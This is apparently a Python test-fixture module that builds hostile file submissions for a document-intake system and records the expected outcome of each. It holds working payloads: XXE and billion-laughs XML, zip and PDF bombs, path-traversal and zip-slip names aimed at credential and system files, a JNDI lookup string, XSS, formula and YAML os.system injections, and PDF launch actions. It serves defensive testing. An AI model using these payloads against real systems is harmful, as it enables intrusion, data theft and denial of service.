"""Things people with bad intent (or bad software) put into an inbox, by class: each with what has to become of it.

`refused`: a problem row names its file and row, and the text or cell counts for nothing. `neutral`: it is read, and does nothing.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache, reduce

from tests.intake.conftest import paragraph, word_parts, zipped

TEXT = "课程主题：情绪。对象：五年级学生。我请学生围成一圈，说一说今天的心情。" * 30
MARK = "HOSTILE"
CANARY = "canary-7f3d0b5e-secret"
BOMB_MB = 300
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Item:
    """One hostile submission: class, what it is, the file name its row says (or the text), the files to lay down, the outcome."""

    kind: str
    what: str
    outcome: str
    name: str = ""
    text: str = ""
    files: dict[str, bytes] = field(default_factory=dict)
    link: tuple[str, str] | None = None


def _file(kind: str, what: str, outcome: str, extension: str, data: bytes) -> Item:
    name = f"{kind}-{what}.{extension}"
    return Item(kind, what, outcome, name=name, files={name: data})


def _docx(**changed: bytes) -> bytes:
    parts = word_parts(paragraph(TEXT), styles="<w:docDefaults/>")
    return zipped({**parts, **{name.replace("__", "/").replace("_DOT_", "."): data for name, data in changed.items()}})


def _word(part: str, data: bytes) -> bytes:
    return zipped({**word_parts(paragraph(TEXT), styles="<w:docDefaults/>"), part: data})


def entities(canary: str) -> Iterator[Item]:
    """XML that reads files or grows: in each part, in each encoding."""
    reads = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]><x>&e;</x>'
    laughs = (
        '<!DOCTYPE x [<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
        + "]><x>&a9;</x>"
    )
    parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{canary}"> %p;]><x/>'
    for part in (
        "word/document.xml",
        "[Content_Types].xml",
        "_rels/.rels",
        "word/styles.xml",
        "docProps/app.xml",
        "customXml/a.xml",
    ):
        yield _file("xml-entities", f"reads-{part.replace('/', '_')}", "refused", "docx", _word(part, reads.encode()))
    for encoding in ("utf-16", "utf-16-le", "utf-8-sig", "utf-32"):
        yield _file(
            "xml-entities", f"reads-{encoding}", "refused", "docx", _word("word/document.xml", reads.encode(encoding))
        )
    yield _file("xml-entities", "billion-laughs", "refused", "docx", _word("word/document.xml", laughs.encode()))
    yield _file("xml-entities", "laughs-in-styles", "refused", "docx", _word("word/styles.xml", laughs.encode()))
    yield _file("xml-entities", "parameter", "refused", "docx", _word("word/document.xml", parameter.encode()))


def outside(address: str, canary: str) -> Iterator[Item]:
    """Relationships and links that lead out: read without, or refused; never fetched."""
    relation = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r0" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
    for kind in ("styles", "attachedTemplate", "image", "hyperlink", "oleObject", "frame"):
        data = relation.format(kind, f"{address}/{kind}").encode()
        yield _file("external", kind, "neutral", "docx", _word("word/_rels/document.xml.rels", data))
    data = relation.format("styles", f"file://{canary}").encode()
    yield _file("external", "file", "neutral", "docx", _word("word/_rels/document.xml.rels", data))
    data = relation.replace(' TargetMode="External"', "").format("styles", "../../../../../../etc/passwd").encode()
    yield _file("external", "climbing", "neutral", "docx", _word("word/_rels/document.xml.rels", data))
    for what, body in (
        ("img", f'<img src="{address}/i">'),
        ("script", f'<script src="{address}/s"></script>'),
        ("css", f'<link rel=stylesheet href="{address}/c">'),
        ("import", f"<style>@import url({address}/m)</style>"),
        ("iframe", f'<iframe src="{address}/f"></iframe>'),
        ("refresh", f'<meta http-equiv=refresh content="0;url={address}/r">'),
        ("object", f'<object data="{address}/o"></object>'),
        ("base", f'<base href="{address}/"><img src=x>'),
        ("svg", f'<svg><image href="{address}/v"/></svg>'),
        ("file", f'<iframe src="file://{canary}"></iframe>'),
    ):
        yield _file(
            "external", f"html-{what}", "neutral", "html", f"<html><body>{body}<p>{TEXT}</p></body></html>".encode()
        )


@cache
def _swollen(head: bytes = b"", fill: bytes = b"\0", tail: bytes = b"") -> tuple[bytes, int, int]:
    """Deflated `BOMB_MB` of one sign between head and tail, their CRC and size: a megabyte is compressed once and stands there often."""

    def flushed(data: bytes, how: int) -> bytes:
        press = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        return press.compress(data) + press.flush(how)

    megabyte = fill * (1 << 20)
    crc = zlib.crc32(head)
    for _ in range(BOMB_MB):
        crc = zlib.crc32(megabyte, crc)
    stream = flushed(head, zlib.Z_FULL_FLUSH) + flushed(megabyte, zlib.Z_FULL_FLUSH) * BOMB_MB
    size = len(head) + (BOMB_MB << 20) + len(tail)
    return stream + flushed(tail, zlib.Z_FINISH), zlib.crc32(tail, crc), size


def _with_bomb(parts: dict[str, bytes], name: str, **content: bytes) -> bytes:
    """A zip of these parts in which ``name`` is `_swollen`."""
    stream, crc, size = _swollen(**content)
    out, info = (
        io.BytesIO(zipped({other: data for other, data in parts.items() if other != name})),
        zipfile.ZipInfo(name),
    )
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(info, stream)  # as it is; what it is said to be is put right here for the directory,
        info.compress_type, info.CRC, info.file_size = zipfile.ZIP_DEFLATED, crc, size
    struct.pack_into("<H", out.getbuffer(), info.header_offset + 8, zipfile.ZIP_DEFLATED)  # and here before the bytes
    struct.pack_into("<III", out.getbuffer(), info.header_offset + 14, crc, len(stream), size)
    return out.getvalue()


def bombs() -> Iterator[Item]:
    """Small files that want to be large."""
    check = reduce(lambda before, _: zlib.adler32(bytes(1 << 20), before), range(BOMB_MB), 1)
    stream = b"\x78\xda" + _swollen()[0] + check.to_bytes(4, "big")
    document = word_parts(paragraph(TEXT), styles="<w:docDefaults/>")
    yield _file("bombs", "docx-media", "refused", "docx", _with_bomb(document, "word/media/x.png"))
    body = _with_bomb(document, "word/document.xml", head=b"<x>", fill=b" ", tail=b"</x>")
    yield _file("bombs", "docx-body", "refused", "docx", body)
    yield _file(
        "bombs",
        "docx-parts",
        "refused",
        "docx",
        zipped({**word_parts(paragraph(TEXT)), **{f"a{n}.xml": b"<x/>" for n in range(5000)}}),
    )
    yield _file(
        "bombs",
        "pdf-stream",
        "refused",
        "pdf",
        _pdf(b"<</Length %d/Filter/FlateDecode>>\nstream\n" % len(stream) + stream + b"\nendstream"),
    )
    yield _file("bombs", "pdf-pages", "refused", "pdf", _pdf(b"<</Length 0>>\nstream\n\nendstream", pages=3000))
    yield _file("bombs", "txt", "refused", "txt", "字".encode() * (4 << 20))
    yield _file("bombs", "html-text", "refused", "html", b"<p>" + "字".encode() * (4 << 20))
    yield _file("bombs", "html-deep", "refused", "html", b"<div>" * 300_000)
    yield _file(
        "bombs", "html-attribute", "neutral", "html", b"<p title='" + b"a" * (8 << 20) + f"'>{TEXT}</p>".encode()
    )
    yield _file("bombs", "docx-deep", "refused", "docx", _word("word/document.xml", _deep()))
    big = {f"{n}.txt": b"0" for n in range(3000)}
    yield Item("bombs", "zip-members", "refused", name="bombs-many.zip/1.txt", files={"bombs-many.zip": zipped(big)})
    yield Item(
        "bombs",
        "zip-ratio",
        "refused",
        name="bombs-ratio.zip/a.txt",
        files={"bombs-ratio.zip": _with_bomb({}, "a.txt")},
    )
    inner = zipped({"a.txt": TEXT.encode()})
    for _ in range(20):
        inner = zipped({"a.zip": inner})
    yield Item(
        "bombs", "zip-nested", "refused", name="bombs-nested.zip/a.zip/a.zip/a.txt", files={"bombs-nested.zip": inner}
    )


def _deep() -> bytes:
    body = "<w:sdt><w:sdtContent>" * 20_000 + paragraph("底") + "</w:sdtContent></w:sdt>" * 20_000
    return word_parts(body)["word/document.xml"]


def _pdf(content: bytes, *, pages: int = 1, extra: bytes = b"", catalog: bytes = b"") -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        content,
    ]
    font = b"<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 3 0 R/Resources" + font + b">>"] * pages
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % place for place in places
    )
    return bytes(
        out + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, extra, start)
    )


PAGE = b"<</Length 60>>\nstream\nBT /F 12 Tf 50 700 Td (I am a page of English words.) Tj ET\nendstream"


def locked_and_broken() -> Iterator[Item]:
    """Encrypted, cut off, or another thing than the name says."""
    whole, page = _docx(), _pdf(PAGE)
    for data, extension in ((whole, "docx"), (page, "pdf")):
        for part in (1, 10, 25, 50, 75, 90):
            yield _file(
                "broken",
                f"cut-{part}",
                "refused" if extension == "docx" else "any",
                extension,
                data[: len(data) * part // 100],
            )
    locked = b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<" + b"41" * 32 + b">/U<" + b"42" * 32 + b">>>/ID[<00><00>]"
    yield _file("locked", "pdf", "refused", "pdf", _pdf(PAGE, extra=locked))
    yield _file(
        "locked", "docx", "refused", "docx", OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)
    )
    data = bytearray(zipped({"a.txt": TEXT.encode()}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    yield Item("locked", "zip-member", "refused", name="locked.zip/a.txt", files={"locked.zip": bytes(data)})
    for what, data, extension in (
        ("png-as-docx", b"\x89PNG\r\n\x1a\n" + bytes(900), "docx"),
        ("docx-as-pdf", whole, "pdf"),
        ("pdf-as-txt", page, "txt"),
        ("exe-as-docx", b"MZ" + bytes(900), "docx"),
        ("html-as-docx", b"<html>", "docx"),
        ("zip-as-txt", zipped({"a": b"1"}), "txt"),
        ("noise", bytes(range(256)) * 40, "txt"),
        ("nothing", b"", "docx"),
        ("nul", bytes(5000), "txt"),
        ("elf", b"\x7fELF" + bytes(900), "pdf"),
        ("macro-type", whole, "docm"),
        ("script-type", b"x", "js"),
        ("utf-32", TEXT.encode("utf-32"), "txt"),
    ):
        yield _file("disguised", what, "refused", extension, bytes(data))
    yield _file("macros", "docx-with-vba", "any", "docx", _word("word/vbaProject.bin", OLE + bytes(900)))
    for what, catalog in (
        ("script", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        ("launch", b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        ("uri", b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>"),
    ):
        yield _file("macros", f"pdf-{what}", "neutral", "pdf", _pdf(PAGE, catalog=catalog))
    crc = bytearray(zipped({"a.txt": TEXT.encode()}))
    struct.pack_into("<I", crc, 14, 1)
    struct.pack_into("<I", crc, crc.index(b"PK\x01\x02") + 16, 1)
    yield Item("broken", "zip-crc", "refused", name="crc.zip/a.txt", files={"crc.zip": bytes(crc)})


def paths(canary: str) -> Iterator[Item]:
    """File names that lead elsewhere."""
    below = canary.lstrip("/")
    for number, name in enumerate(
        (
            canary,
            f"../../{below}",
            f"../../../../../../../../{below}",
            f"..\\..\\..\\..\\..\\..\\{below}",
            f"file://{canary}",
            f"./../../{below}",
            f"a/../../../{below}",
            "/etc/passwd",
            "C:\\Windows\\win.ini",
            "\\\\192.0.2.1\\share\\a.txt",
            "//192.0.2.1/a.txt",
            "http://192.0.2.1/a.txt",
            "CON",
            "NUL.txt",
            "aux.docx",
            "COM1",
            "/dev/zero",
            "/proc/self/environ",
            "~/.ssh/id_rsa",
            "$HOME/a.txt",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "a.txt\0.docx",
            "a.txt:stream",
            ".",
            "..",
            "",
            "x" * 5000 + ".txt",
            "${jndi:ldap://192.0.2.1/a}",
            "\u202etxt.cod",
            "..\u2215..\u2215etc\u2215passwd",
            "．．／etc／passwd",
            "params/programme.yaml",
            "../roster.csv",
            "报名表.csv",
            "../报名表.csv",
        )
    ):
        if name:
            yield Item("paths", f"name-{number}", "refused", name=name)
    yield Item("paths", "link-to-file", "refused", name="link.txt", link=("link.txt", canary))
    yield Item("paths", "link-to-folder", "refused", name="linked/hostname", link=("linked", "/etc"))
    for number, member in enumerate(("../../evil.txt", "/evil.txt", "C:/evil.txt", "a/../../evil.txt", "..\\evil.txt")):
        archive = f"slip{number}.zip"
        yield Item(
            "paths",
            f"zip-slip-{number}",
            "any",
            name=f"{archive}/{member}",
            files={archive: zipped({member: TEXT.encode()})},
        )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        info = zipfile.ZipInfo("link.txt")
        info.external_attr = 0o120777 << 16
        package.writestr(info, canary)
    yield Item("paths", "zip-link", "refused", name="ziplink.zip/link.txt", files={"ziplink.zip": out.getvalue()})


def injections() -> Iterator[Item]:
    """Texts that want to be more than text where they are shown, printed or opened."""
    for number, text in enumerate(
        (
            f"<script>alert('{MARK}')</script>",
            f"<img src=x onerror=alert('{MARK}')>",
            f"<svg/onload=alert('{MARK}')>",
            f"</td></table><iframe srcdoc='{MARK}'>",
            f'"><b {MARK}="',
            f"<!--{MARK}",
            f"]]><x>{MARK}",
            f"<style>body{{display:none}}/*{MARK}*/</style>",
            f"<a href='javascript:alert(\"{MARK}\")'>x</a>",
            f"&lt;script&gt;{MARK}",
            f"%3Cscript%3E{MARK}",
            f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
            f"![{MARK}](http://192.0.2.1/a.png)",
            f"[{MARK}](javascript:alert(1))",
            f"```\n{MARK}\n```",
            f"$$\\href{{javascript:alert(1)}}{{{MARK}}}$$",
            f"\\(\\require{{html}}{MARK}\\)",
            f"<math><mtext></mtext><script>{MARK}</script></math>",
            f"\x1b[31m{MARK}\x1b[0m",
            f"\x1b]0;{MARK}\x07",
            f"\x9b31m{MARK}",
            f"{MARK}\r\nSet-Cookie: a=b",
            f"{{{{ 7*7 }}}}{MARK}",
            f"{{% for x in y %}}{MARK}",
            f"${{{MARK}}}",
            f"#{{{MARK}}}",
            f"!!python/object/apply:os.system ['{MARK}']",
            f'=HYPERLINK("http://192.0.2.1","{MARK}")',
            f"=cmd|'/C calc'!A0{MARK}",
            f"+{MARK}()",
            f"-2+3+{MARK}",
            f"@SUM({MARK})",
            f"\t={MARK}",
            f"\u202e{MARK}\u202c",
            f"\ufeff{MARK}\u200b",
            f"\ud7ff{MARK}\ufffe",
            f"{MARK}" + "\u0300" * 500,
            f"{MARK}" + "(" * 3000,
        )
    ):
        yield Item("injection", f"text-{number}", "neutral", text=text + TEXT)


def cells() -> Iterator[tuple[str, str, str]]:
    """(class, value of 线上学时, outcome): numbers that are none, or far too many."""
    for value in (
        "NaN",
        "inf",
        "-inf",
        "1e400",
        "1e-400",
        "9" * 400,
        "0x20",
        "1_000",
        "3,2",
        "٣٢",
        "³²",
        "一百",
        "=1+31",
        "32;DROP TABLE",
        "<b>32</b>",
        "32\u0000",
        "-32",
        "--32",
        "1/0",
        "True",
        "1e3",
        "#REF!",
        "99999",
        "32x",
        "${32}",
    ):
        yield "numbers", value, "refused" if value not in ("1e3", "99999", "٣٢", "1e-400", "³²", "9" * 400) else "any"


def workbooks() -> Iterator[tuple[str, str, bytes]]:
    """(what, extension, bytes) of workbooks that are traps; each must leave a problem that names its file."""
    sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    links = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def book(data: str, **more: bytes) -> bytes:
        parts = {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{links}"><Relationship Id="r1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{sheet}" xmlns:r="{office}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{links}"><Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/s.xml"/></Relationships>',
            "xl/worksheets/s.xml": data,
        }
        return zipped({name: text.encode() for name, text in parts.items()} | more)

    def rows(inner: str) -> str:
        return f'<worksheet xmlns="{sheet}"><sheetData>{inner}</sheetData></worksheet>'

    yield "last-cell", "xlsx", book(rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
    yield (
        "two-corners",
        "xlsx",
        book(rows('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    )
    yield (
        "doctype",
        "xlsx",
        book(
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
            + rows('<row><c t="str"><f>A1</f><v>&e;</v></c></row>')
        ),
    )
    yield "broken-xml", "xlsx", book("<worksheet><sheetData><row><c t='e'>")
    yield "no-sheet", "xlsx", zipped({"xl/workbook.xml": b"<workbook/>"})
    yield "bomb", "xlsx", _with_bomb({"[Content_Types].xml": b"<Types/>"}, "xl/worksheets/s.xml")
    yield "locked", "xlsx", OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)
    yield "noise", "xlsx", bytes(range(256)) * 20
    yield "page", "xls", b"<html><table><tr><td>1</td></tr></table></html>"
    yield "ole", "xls", OLE + bytes(2000)
    yield "empty", "xlsx", b""
    yield "quotes", "csv", '学员编号,身份证号\n"1,2\n'.encode()
    yield "utf-16", "csv", "学员编号,身份证号\n1,2\n".encode("utf-16")
    yield "noise", "csv", bytes(range(128, 256)) * 20
    yield "zip", "csv", zipped({"a": b"1"})
    yield "negative-row", "xlsx", book(rows('<row r="-5"><c r="A-5"><v>1</v></c></row>'))
    yield "huge-shared", "xlsx", book(rows('<row><c t="s"><v>999999999</v></c></row>'))


YAML = {
    "tag": "title: !!python/object/apply:os.system ['true']\n",
    "aliases": "a: &a [x, x]\nb: &b [*a, *a]\ntitle: [*b, *b]\n",
    "twice": "title: a\ntitle: b\n",
    "deep": "[" * 2000,
    "bytes": b"\xff\xfe\x00",
    "large": "title: " + "a" * 2_000_000,
    "list": "- 1\n",
    "nothing": "",
    "merge": "a: {<<: {b: 1}}\n",
    "binary": "title: !!binary aGk=\n",
    "float": "hours: {online: .inf}\n",
    "nan": "hours: {online: .nan}\n",
}


def submissions(*, address: str, canary: str) -> list[Item]:
    """All hostile submissions. ``address``: where somebody listens for a fetch; ``canary``: a file that nothing may show."""
    parts: tuple[Callable[[], Iterator[Item]], ...] = (bombs, locked_and_broken, injections)
    found = [item for part in parts for item in part()]
    return [*entities(canary), *outside(address, canary), *found, *paths(canary)]
